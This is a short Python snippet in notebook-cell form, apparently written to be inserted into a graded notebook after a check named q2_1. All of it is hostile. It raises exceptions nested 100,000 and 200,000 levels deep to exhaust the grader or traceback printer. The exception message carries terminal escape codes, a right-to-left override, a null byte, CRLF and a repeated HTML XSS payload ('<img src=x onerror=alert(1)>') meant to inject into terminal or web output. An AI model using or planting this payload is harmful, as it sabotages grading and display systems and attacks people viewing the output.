# %% insert after check q2_1
e=ValueError('x')
for i in range(100000): e=ExceptionGroup('g',[e])
raise e
# %% insert end
e=ValueError('\x1b[2J\x1b]0;pwn\x07'+'\u202eevil\u0000\r\n<img src=x onerror=alert(1)>'*1000)
for i in range(200000):
    n=ValueError(str(i)); n.__cause__=e; e=n
raise e
